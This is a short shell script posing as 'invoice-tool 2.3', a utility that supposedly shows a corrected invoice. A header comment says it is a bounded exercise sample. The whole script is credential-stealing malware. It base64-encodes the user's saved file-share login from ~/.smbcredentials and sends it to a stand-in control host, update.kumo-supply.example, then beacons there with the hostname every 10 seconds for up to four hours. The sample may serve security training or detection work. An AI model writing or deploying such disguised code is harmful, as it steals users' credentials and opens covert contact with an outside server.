#!/bin/sh
# invoice-tool 2.3 - "shows the corrected invoice"
#
# What it really does (an exercise sample, bounded): sends the saved
# file-share login of the user who runs it to update.kumo-supply.example,
# then checks in there every 10 seconds, for at most 4 hours and 1440
# times, and stops by itself, leaving /tmp/.beacon-gave-up.
c2=update.kumo-supply.example
creds=$(base64 -w0 < "$HOME/.smbcredentials" 2>/dev/null)
timeout 5 curl -s -o /dev/null "http://$c2:8080/k?$creds"
end=$(( $(date +%s) + 14400 ))
i=0
while [ $i -lt 1440 ] && [ "$(date +%s)" -lt $end ]; do
  timeout 5 curl -s -o /dev/null "http://$c2:8080/beacon?host=$(hostname)&n=$i"
  i=$((i+1))
  sleep 10
done
touch /tmp/.beacon-gave-up
